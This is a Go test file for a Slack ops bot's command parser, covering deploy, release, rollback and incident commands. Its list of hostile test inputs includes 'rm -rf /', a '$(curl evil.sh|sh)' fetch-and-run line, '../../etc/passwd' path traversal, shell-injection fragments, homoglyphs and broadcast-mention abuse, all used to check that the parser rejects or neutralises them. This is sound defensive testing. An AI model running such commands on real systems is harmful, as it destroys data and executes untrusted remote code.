package commands

import (
	"regexp"
	"strings"
	"testing"
	"unicode"

	"github.com/stretchr/testify/require"
)

// parseCase is one command line and the request it must give.
type parseCase struct {
	command, text string
	want          Request
}

var acceptedCases = []parseCase{
	// /release
	{Release, "v1.4.0", ReleaseCreate{Version: "v1.4.0"}},
	{Release, "V1.4.0", ReleaseCreate{Version: "v1.4.0"}},
	{Release, "v1.4.0-rc.1", ReleaseCreate{Version: "v1.4.0-rc.1"}},
	{Release, "v0.0.1-alpha-2.0.x", ReleaseCreate{Version: "v0.0.1-alpha-2.0.x"}},
	{Release, "v999999999.0.0", ReleaseCreate{Version: "v999999999.0.0"}},
	{Release, "  v1.4.0  ", ReleaseCreate{Version: "v1.4.0"}},
	{Release, "status", ReleaseStatus{}},
	{Release, "Status v1.4.0", ReleaseStatus{Version: "v1.4.0"}},

	// /deploy
	{Deploy, "v1.4.0", DeployStart{Version: "v1.4.0"}},
	{Deploy, "v1.4.0 to staging", DeployStart{Version: "v1.4.0", Env: "staging"}},
	{Deploy, "v1.4.0\tTO\u00a0Staging", DeployStart{Version: "v1.4.0", Env: "staging"}},
	{Deploy, "v2.0.0-rc.1 to eu-west-1", DeployStart{Version: "v2.0.0-rc.1", Env: "eu-west-1"}},
	{Deploy, "v2.0.0 to K8S-Prod", DeployStart{Version: "v2.0.0", Env: "k8s-prod"}},
	{Deploy, "status", DeployStatus{}},
	{Deploy, "STATUS", DeployStatus{}},
	{Deploy, "history", DeployHistory{}},
	{Deploy, "history production", DeployHistory{Env: "production"}},
	{Deploy, "cancel", DeployCancel{}},
	{Deploy, "cancel staging", DeployCancel{Env: "staging"}},

	// /rollback: environment and version both optional, in either order
	{Rollback, "", RollbackStart{}},
	{Rollback, "production", RollbackStart{Env: "production"}},
	{Rollback, "v1.3.2", RollbackStart{Version: "v1.3.2"}},
	{Rollback, "production v1.3.2", RollbackStart{Env: "production", Version: "v1.3.2"}},
	{Rollback, "v1.3.2 production", RollbackStart{Env: "production", Version: "v1.3.2"}},
	{Rollback, "production to v1.3.2", RollbackStart{Env: "production", Version: "v1.3.2"}},
	{Rollback, "to v1.3.2", RollbackStart{Version: "v1.3.2"}},

	// /incident declare: options in any order, then the title exactly as typed
	{Incident, "declare", IncidentDeclare{}},
	{Incident, "declare sev1", IncidentDeclare{Severity: 1}},
	{Incident, "declare SEV2 Checkout errors", IncidentDeclare{Severity: 2, Title: "Checkout errors"}},
	{Incident, "declare --drill", IncidentDeclare{Drill: true}},
	{Incident, "declare --drill sev3 Game day", IncidentDeclare{Severity: 3, Title: "Game day", Drill: true}},
	{Incident, "declare sev4 —drill Game day", IncidentDeclare{Severity: 4, Title: "Game day", Drill: true}},
	{Incident, "declare   Checkout  errors   ", IncidentDeclare{Title: "Checkout  errors"}},
	{Incident, "declare 2 regions down", IncidentDeclare{Title: "2 regions down"}},
	{Incident, "declare severe latency", IncidentDeclare{Title: "severe latency"}},
	{Incident, "declare sev1 <!channel> pay & <@U0BOB|bob> 🏳️‍🌈 Ошибка", IncidentDeclare{Severity: 1, Title: "<!channel> pay & <@U0BOB|bob> 🏳️‍🌈 Ошибка"}},
	{Incident, "declare sev2 rm -rf / && `id` ../../etc", IncidentDeclare{Severity: 2, Title: "rm -rf / && `id` ../../etc"}},
	{Incident, "declare " + strings.Repeat("é", 200), IncidentDeclare{Title: UserText(strings.Repeat("é", 200))}},

	{Incident, "update investigating Elevated 5xx on checkout", IncidentUpdate{Phase: PhaseInvestigating, Message: "Elevated 5xx on checkout"}},
	{Incident, "update Identified Bad cache config", IncidentUpdate{Phase: PhaseIdentified, Message: "Bad cache config"}},
	{Incident, "update monitoring " + strings.Repeat("x", 1500), IncidentUpdate{Phase: PhaseMonitoring, Message: UserText(strings.Repeat("x", 1500))}},
	{Incident, "severity sev3", IncidentSeverity{Severity: 3}},
	{Incident, "page <@U0CAROL|carol>", IncidentPage{UserID: "U0CAROL"}},
	{Incident, "page <@W0ENTERPRISE>", IncidentPage{UserID: "W0ENTERPRISE"}},
	{Incident, "page <@U0CAROL|Carol Smith>", IncidentPage{UserID: "U0CAROL"}},
	{Incident, "page Payments-API", IncidentPage{Service: "payments-api"}},
	{Incident, "commander <@U0BOB|bob>", IncidentCommander{UserID: "U0BOB"}},
	{Incident, "commander <@U0BOB>", IncidentCommander{UserID: "U0BOB"}},
	{Incident, "role comms <@U0DANA|dana>", IncidentRole{Role: "comms", UserID: "U0DANA"}},
	{Incident, "resolve", IncidentResolve{}},
	{Incident, "resolve Rolled back to v1.3.2", IncidentResolve{Summary: "Rolled back to v1.3.2"}},
	{Incident, "followup Alert on cache hit rate", IncidentFollowup{Text: "Alert on cache hit rate"}},
	{Incident, "list", IncidentList{}},
	{Incident, "status", IncidentStatus{}},

	// the command name as Slack might capitalise it
	{"/DEPLOY", "status", DeployStatus{}},
}

func TestParseAcceptsEveryForm(t *testing.T) {
	t.Parallel()
	for _, tc := range acceptedCases {
		t.Run(tc.command+" "+tc.text, func(t *testing.T) {
			t.Parallel()
			got, err := Parse(tc.command, tc.text)
			require.NoError(t, err)
			require.Equal(t, tc.want, got)
		})
	}
}

func TestParseShowsHelp(t *testing.T) {
	t.Parallel()
	tests := []struct{ command, text string }{
		{Release, "help"}, {Release, ""},
		{Deploy, "help"}, {Deploy, "   "}, {Deploy, "HELP me please"},
		{Rollback, "help"},
		{Incident, "help"}, {Incident, ""},
	}
	for _, tc := range tests {
		t.Run(tc.command+" "+tc.text, func(t *testing.T) {
			t.Parallel()
			got, err := Parse(tc.command, tc.text)
			require.NoError(t, err)
			require.Equal(t, HelpRequest{Command: tc.command, Text: HelpText(tc.command)}, got)
		})
	}
}

// Usage lines as people see them after the problem.
const (
	releaseUsage        = "/release vMAJOR.MINOR.PATCH"
	releaseStatusUsage  = "/release status [vMAJOR.MINOR.PATCH]"
	deployUsage         = "/deploy vMAJOR.MINOR.PATCH [to ENVIRONMENT]"
	deployCommandUsage  = "/deploy vMAJOR.MINOR.PATCH [to ENVIRONMENT] | status | history | cancel | help"
	deployHistoryUsage  = "/deploy history [ENVIRONMENT]"
	rollbackUsage       = "/rollback [ENVIRONMENT] [vMAJOR.MINOR.PATCH]"
	incidentUsage       = "/incident declare | update | severity | page | commander | role | resolve | followup | list | status | help"
	declareUsage        = "/incident declare [--drill] [sev1|sev2|sev3|sev4] [TITLE]"
	updateUsage         = "/incident update investigating|identified|monitoring MESSAGE"
	severityUsage       = "/incident severity sev1|sev2|sev3|sev4"
	pageUsage           = "/incident page @PERSON|SERVICE"
	commanderUsage      = "/incident commander @PERSON"
	roleUsage           = "/incident role ROLE @PERSON"
	followupUsage       = "/incident followup TEXT"
	incidentListUsage   = "/incident list"
	unknownCommandUsage = "/release | /deploy | /rollback | /incident, each with help"
)

// refusedCase is a command line and the first line of the answer: the problem, then the usage.
type refusedCase struct {
	command, text string
	problem       string
	usage         string
}

var refusedCases = []refusedCase{
	// versions
	{Deploy, "v1.0", `I couldn't read "v1.0" as a version.`, deployUsage},
	{Deploy, "1.2.3", `"1.2.3" needs a leading v: did you mean v1.2.3?`, deployUsage},
	{Release, "1.2.3-rc.1", `"1.2.3-rc.1" needs a leading v: did you mean v1.2.3-rc.1?`, releaseUsage},
	{Deploy, "v1.2.3+build.5", `"v1.2.3+build.5" has build metadata "+build.5"; leave it out: v1.2.3.`, deployUsage},
	{Deploy, "v01.2.3", `I couldn't read "v01.2.3" as a version: numbers can't have leading zeros.`, deployUsage},
	{Deploy, "v1.2.3-rc.01", `I couldn't read "v1.2.3-rc.01" as a version.`, deployUsage},
	{Deploy, "v1234567890.0.0", `I couldn't read "v1234567890.0.0" as a version: a number has more than 9 digits.`, deployUsage},
	{Deploy, "v1.2.3.4", `I couldn't read "v1.2.3.4" as a version.`, deployUsage},
	{Deploy, "v1.2.3-", `I couldn't read "v1.2.3-" as a version.`, deployUsage},
	{Deploy, "latest", `I couldn't read "latest" as a version.`, deployUsage},
	{Release, "status v1", `I couldn't read "v1" as a version.`, releaseStatusUsage},
	{Release, "v1.4.0 now", `There's an extra "now" at the end.`, releaseUsage},

	// environments
	{Deploy, "v1.4.0 staging", `Put "to" before the environment: /deploy v1.4.0 to staging.`, deployUsage},
	{Deploy, "v1.4.0 to", `Say which environment after "to".`, deployUsage},
	{Deploy, "v1.4.0 to staging now", `There's an extra "now" at the end.`, deployUsage},
	{Deploy, "v1.4.0 to staging_1", `"staging_1" isn't the name of an environment: use a letter, then letters, digits or -, at most 32.`, deployUsage},
	{Deploy, "v1.4.0 to 1prod", `"1prod" isn't the name of an environment: use a letter, then letters, digits or -, at most 32.`, deployUsage},
	{Deploy, "history " + strings.Repeat("a", 33), `"` + strings.Repeat("a", 33) + `" isn't the name of an environment: use a letter, then letters, digits or -, at most 32.`, deployHistoryUsage},
	{Deploy, "status production", `There's an extra "production" at the end.`, "/deploy status"},
	{Rollback, "production staging", `Give one environment, not production and "staging".`, rollbackUsage},
	{Rollback, "v1.3.2 v1.3.1", `Give one version, not v1.3.2 and "v1.3.1".`, rollbackUsage},
	{Rollback, "production to staging", `Say which version after "to", e.g. /rollback production to v1.3.2.`, rollbackUsage},
	{Rollback, "production 1.3.2", `"1.3.2" needs a leading v: did you mean v1.3.2?`, rollbackUsage},
	{Rollback, "production to v1.3", `I couldn't read "v1.3" as a version.`, rollbackUsage},
	{Deploy, "cancel Prod!", `"Prod!" isn't the name of an environment: use a letter, then letters, digits or -, at most 32.`, "/deploy cancel [ENVIRONMENT]"},

	// subcommands
	{Deploy, "stauts", "\"stauts\" isn't a /deploy subcommand; did you mean `status`?", deployCommandUsage},
	{Deploy, "histroy staging", "\"histroy\" isn't a /deploy subcommand; did you mean `history`?", deployCommandUsage},
	{Incident, "lsit", "\"lsit\" isn't a /incident subcommand; did you mean `list`?", incidentUsage},
	{Incident, "declar sev1 Checkout", "\"declar\" isn't a /incident subcommand; did you mean `declare`?", incidentUsage},
	{Incident, "open sev1 Checkout", `"open" isn't a /incident subcommand.`, incidentUsage},
	{Incident, "list all", `There's an extra "all" at the end.`, incidentListUsage},

	// severities
	{Incident, "declare sev5 Checkout", `"sev5" isn't a severity: use sev1 (the most severe) to sev4.`, declareUsage},
	{Incident, "declare sev1 sev2 Checkout", `Give one severity, not sev1 and "sev2".`, declareUsage},
	{Incident, "declare --dril Checkout", `I don't know the option "--dril"; the only one is --drill.`, declareUsage},
	{Incident, "severity", `Say which severity: sev1 (the most severe) to sev4.`, severityUsage},
	{Incident, "severity 1", `Write the severity as sev1.`, severityUsage},
	{Incident, "severity high", `"high" isn't a severity: use sev1 (the most severe) to sev4.`, severityUsage},

	// updates and free text
	{Incident, "update", `Say the status (investigating, identified or monitoring), then a message.`, updateUsage},
	{Incident, "update identified", `Add a message after identified.`, updateUsage},
	{Incident, "update resolved All good", `To resolve the incident, use /incident resolve [SUMMARY].`, updateUsage},
	{Incident, "update investigatng Looking", "\"investigatng\" isn't a status; did you mean `investigating`?", updateUsage},
	{Incident, "update fixing Looking", `"fixing" isn't a status: use investigating, identified or monitoring.`, updateUsage},
	{Incident, "update monitoring " + strings.Repeat("x", 1501), `The message is 1501 characters long; keep it to 1500.`, updateUsage},
	{Incident, "declare sev1 " + strings.Repeat("é", 201), `The title is 201 characters long; keep it to 200.`, declareUsage},
	{Incident, "followup", `Say what should be followed up.`, followupUsage},
	{Incident, "followup " + strings.Repeat("x", 1501), `The follow-up is 1501 characters long; keep it to 1500.`, followupUsage},
	{Incident, "resolve " + strings.Repeat("x", 1501), `The summary is 1501 characters long; keep it to 1500.`, "/incident resolve [SUMMARY]"},

	// people
	{Incident, "page @bob", `"@bob" is plain text, not a mention: pick the person from Slack's list as you type @.`, pageUsage},
	{Incident, "page", `Say who to page: a person (mention them with @) or a service.`, pageUsage},
	{Incident, "page <@U0BOB|bob> <@U0CAROL|carol>", `There's an extra "@` + "\u200b" + `carol" at the end.`, pageUsage},
	{Incident, "page <!subteam^S0OWNERS|@product-owners>", `"@` + "\u200b" + `product-owners" isn't a person: mention them with @ and pick them from Slack's list.`, pageUsage},
	{Incident, "page <#C0DEPLOYS|deploys>", `"<#C0DEPLOYS>" isn't a person: mention them with @ and pick them from Slack's list.`, pageUsage},
	{Incident, "commander bob", `"bob" isn't a person: mention them with @ and pick them from Slack's list.`, commanderUsage},
	{Incident, "commander <@u0bob>", `"&lt;@u0bob&gt;" isn't a person: mention them with @ and pick them from Slack's list.`, commanderUsage},
	{Incident, "commander", `Say who takes command: mention them with @.`, commanderUsage},
	{Incident, "role <@U0DANA|dana> comms", `Say the role before the person, e.g. /incident role comms @dana.`, roleUsage},
	{Incident, "role comms", `Say who gets the comms role: mention them with @.`, roleUsage},
	{Incident, "role Comms_Lead <@U0DANA>", `"Comms_Lead" isn't the name of a role: use a letter, then letters, digits or -, at most 32.`, roleUsage},
	{Incident, "role comms @dana", `"@dana" is plain text, not a mention: pick the person from Slack's list as you type @.`, roleUsage},

	// commands opsbot does not have
	{"/deploy-prod", "v1.4.0", `I don't know the command "/deploy-prod".`, unknownCommandUsage},
}

// nastyCases are hostile or broken inputs; the problem must quote them inert.
var nastyCases = []refusedCase{
	{Deploy, "1.0.0; rm -rf /", `I couldn't read "1.0.0;" as a version.`, deployUsage},
	{Deploy, "v1.0.0;reboot", `I couldn't read "v1.0.0;reboot" as a version.`, deployUsage},
	{Deploy, "$(curl evil.sh|sh)", `I couldn't read "$(curl" as a version.`, deployUsage},
	{Deploy, "`id`", `I couldn't read "ˋidˋ" as a version.`, deployUsage},
	{Deploy, "v1.0.0 to prod&amp;&amp;id", `"prod&amp;&amp;id" isn't the name of an environment: use a letter, then letters, digits or -, at most 32.`, deployUsage},
	{Deploy, "v1.0.0 to ../../etc/passwd", `"../../etc/passwd" isn't the name of an environment: use a letter, then letters, digits or -, at most 32.`, deployUsage},
	{Deploy, "../v1.0.0", `I couldn't read "../v1.0.0" as a version.`, deployUsage},
	{Deploy, "ｖ1.0.0", `"ｖ1.0.0" contains a look-alike character: U+FF56 looks like "v" but isn't; please type it in plain ASCII.`, deployUsage},
	{Deploy, "v１.0.0", `"v１.0.0" contains a look-alike character: U+FF11 looks like "1" but isn't; please type it in plain ASCII.`, deployUsage},
	{Deploy, "v𝟏.0.0", `"v𝟏.0.0" contains a look-alike character: U+1D7CF looks like "1" but isn't; please type it in plain ASCII.`, deployUsage},
	{Incident, "update іdentified Found it", `"іdentified" contains a look-alike character: U+0456 looks like "i" but isn't; please type it in plain ASCII.`, updateUsage},
	{Deploy, "v1.0.0 to ѕtaging", `"ѕtaging" contains a look-alike character: U+0455 looks like "s" but isn't; please type it in plain ASCII.`, deployUsage},
	{Incident, "lіst", `"lіst" contains a look-alike character: U+0456 looks like "i" but isn't; please type it in plain ASCII.`, incidentUsage},
	{Incident, "severity ѕev1", `"ѕev1" contains a look-alike character: U+0455 looks like "s" but isn't; please type it in plain ASCII.`, severityUsage},
	{Deploy, "v1.0.0 to \u212aube", "\"\u212aube\" contains a look-alike character: U+212A looks like \"K\" but isn't; please type it in plain ASCII.", deployUsage},
	{Deploy, "<!channel>", `I couldn't read "@` + "\u200b" + `channel" as a version.`, deployUsage},
	{Deploy, "v1.0.0 to <!here>", `"@` + "\u200b" + `here" isn't the name of an environment: use a letter, then letters, digits or -, at most 32.`, deployUsage},
	{Deploy, "<!subteam^S0OWNERS|@product-owners>", `I couldn't read "@` + "\u200b" + `product-owners" as a version.`, deployUsage},
	{Deploy, "<@U0BOB|bob>", `I couldn't read "@` + "\u200b" + `bob" as a version.`, deployUsage},
	{Deploy, "<https://evil.example|v1.4.0>", `I couldn't read "https://evil.example" as a version.`, deployUsage},
	{Deploy, "@everyone", `I couldn't read "@` + "\u200b" + `everyone" as a version.`, deployUsage},
	{Deploy, strings.Repeat("v1.0.0 ", 1500), `That's too long: commands take at most 2000 characters.`, deployCommandUsage},
	{Deploy, strings.Repeat("x", 10240), `That's too long: commands take at most 2000 characters.`, deployCommandUsage},
	{Deploy, "v1.0.0" + strings.Repeat("x", 100), `I couldn't read "v1.0.0` + strings.Repeat("x", quoteChars-6) + `…" as a version.`, deployUsage},
	{Incident, "declare " + strings.Repeat("é", 1996), `That's too long: commands take at most 2000 characters.`, incidentUsage},
	{Deploy, "v1.0.0\x00", `The text contains an invisible control character (U+0000); please remove it.`, deployCommandUsage},
	{Deploy, "v1.0.0 \x1b[2J", `The text contains an invisible control character (U+001B); please remove it.`, deployCommandUsage},
	{Incident, "declare sev1 Checkout \u202eliam", `The text contains an invisible control character (U+202E); please remove it.`, incidentUsage},
	{Deploy, "v1.0.0\xff", `The text isn't valid UTF-8.`, deployCommandUsage},
	{Incident, "declare sev1 Checkout\n<!channel> all hands", `The text contains a line break; commands take one line.`, incidentUsage},
	{Incident, "update identified ok\r\nINFO fake log line", `The text contains a line break; commands take one line.`, incidentUsage},
	{"/deploy<!channel>\n", "v1.4.0", `I don't know the command "/deploy@` + "\u200b" + `channel ".`, unknownCommandUsage},
}

func TestParseRefusesWithTheProblemAndTheUsage(t *testing.T) {
	t.Parallel()
	for _, tc := range append(append([]refusedCase{}, refusedCases...), nastyCases...) {
		t.Run(tc.command+" "+tc.text, func(t *testing.T) {
			t.Parallel()
			got, err := Parse(tc.command, tc.text)
			require.Nil(t, got)
			var usage *UsageError
			require.ErrorAs(t, err, &usage)
			firstLine, _, _ := strings.Cut(usage.Text(), "\n")
			require.Equal(t, tc.problem+" Usage: "+tc.usage, firstLine)
			requireSafeUsageText(t, usage.Text())
		})
	}
}

func TestUsageErrorTextMatchesTheUX(t *testing.T) {
	t.Parallel()
	_, err := Parse(Deploy, "v1.0")
	var usage *UsageError
	require.ErrorAs(t, err, &usage)
	require.Equal(t, `I couldn't read "v1.0" as a version. Usage: /deploy vMAJOR.MINOR.PATCH [to ENVIRONMENT]`+"\n"+
		"e.g. /deploy v1.4.0 · /deploy v1.4.0 to staging · /deploy status · /deploy history · /deploy cancel", usage.Text())
	require.Equal(t, Deploy, usage.Command)
	require.Equal(t, `usage of /deploy: I couldn't read "v1.0" as a version.`, usage.Error())
}

func TestRequestStringParsesBackToTheSameRequest(t *testing.T) {
	t.Parallel()
	for _, tc := range acceptedCases {
		t.Run(tc.command+" "+tc.text, func(t *testing.T) {
			t.Parallel()
			command, text, _ := strings.Cut(tc.want.String(), " ")
			got, err := Parse(command, text)
			require.NoError(t, err)
			require.Equal(t, tc.want, got)
		})
	}
}

func TestRequestStringIsCanonical(t *testing.T) {
	t.Parallel()
	tests := []struct {
		req  Request
		want string
	}{
		{DeployStart{Version: "v1.4.0", Env: "staging"}, "/deploy v1.4.0 to staging"},
		{DeployStart{Version: "v1.4.0"}, "/deploy v1.4.0"},
		{RollbackStart{}, "/rollback"},
		{IncidentDeclare{Severity: 2, Title: "Checkout errors", Drill: true}, "/incident declare --drill sev2 Checkout errors"},
		{IncidentPage{UserID: "U0CAROL"}, "/incident page <@U0CAROL>"},
		{IncidentRole{Role: "comms", UserID: "U0DANA"}, "/incident role comms <@U0DANA>"},
		{HelpRequest{Command: Incident}, "/incident help"},
	}
	for _, tc := range tests {
		require.Equal(t, tc.want, tc.req.String())
	}
}

// The grammar table drives both dispatch and help, so it must be unambiguous and its examples
// must work.
func TestGrammarTable(t *testing.T) {
	t.Parallel()
	// Examples show mentions the way people see them; Slack sends them as markup.
	mentionInExample := regexp.MustCompile(`@([a-z]+)`)
	for _, g := range grammars {
		t.Run(g.command, func(t *testing.T) {
			t.Parallel()
			keywords, bare := map[string]bool{}, 0
			for _, f := range g.forms {
				if f.keyword == "" {
					bare++
					continue
				}
				require.False(t, keywords[f.keyword], "keyword %q is used twice", f.keyword)
				require.Equal(t, asciiLower(f.keyword), f.keyword, "keywords are matched lower-cased")
				keywords[f.keyword] = true
			}
			require.LessOrEqual(t, bare, 1, "at most one form may go without a keyword")
			require.True(t, keywords["help"], "every command has help")

			for _, example := range g.examples {
				command, text, _ := strings.Cut(mentionInExample.ReplaceAllString(example, "<@U0EXAMPLE|$1>"), " ")
				require.Equal(t, g.command, command)
				_, err := Parse(command, text)
				require.NoError(t, err, "example %q", example)
			}
		})
	}
}

func TestUnknownCommandHelpListsTheCommands(t *testing.T) {
	t.Parallel()
	require.Equal(t, `I don't know the command "/foo". Usage: /release | /deploy | /rollback | /incident, each with help`+"\n"+
		"e.g. /release help · /deploy help · /rollback help · /incident help", HelpText("/foo"))
}

// requireSafeUsageText checks what every usage error must be: a problem-and-usage line and an
// examples line, short, valid UTF-8, and unable to notify anyone.
func requireSafeUsageText(t *testing.T, text string) {
	t.Helper()
	lines := strings.Split(text, "\n")
	require.Len(t, lines, 2, "problem and usage on one line, examples on the next: %q", text)
	require.Contains(t, lines[0], " Usage: ")
	require.True(t, strings.HasPrefix(lines[1], "e.g. "))
	require.LessOrEqual(t, len([]rune(text)), 3000)
	requireInert(t, text)
}

var liveBroadcast = regexp.MustCompile(`(?i)<!|@(channel|here|everyone)`)

// requireInert checks that text posted to Slack can notify no group of people, whether or not
// the message is posted with link_names.
func requireInert(t *testing.T, text string) {
	t.Helper()
	require.True(t, strings.ToValidUTF8(text, "") == text, "invalid UTF-8 in %q", text)
	require.False(t, liveBroadcast.MatchString(text), "live broadcast mention in %q", text)
	for _, r := range text {
		require.False(t, r != '\n' && r != '\t' && r != '\u200b' && isInvisibleControl(r), "control character %U in %q", r, text)
	}
}

func TestLookAlikesMapNonASCIIToASCII(t *testing.T) {
	t.Parallel()
	for r, ascii := range lookAlikes {
		require.Greater(t, r, rune(unicode.MaxASCII), "%q is ASCII itself", r)
		require.LessOrEqual(t, ascii, rune(unicode.MaxASCII), "%q maps to non-ASCII %q", r, ascii)
	}
}
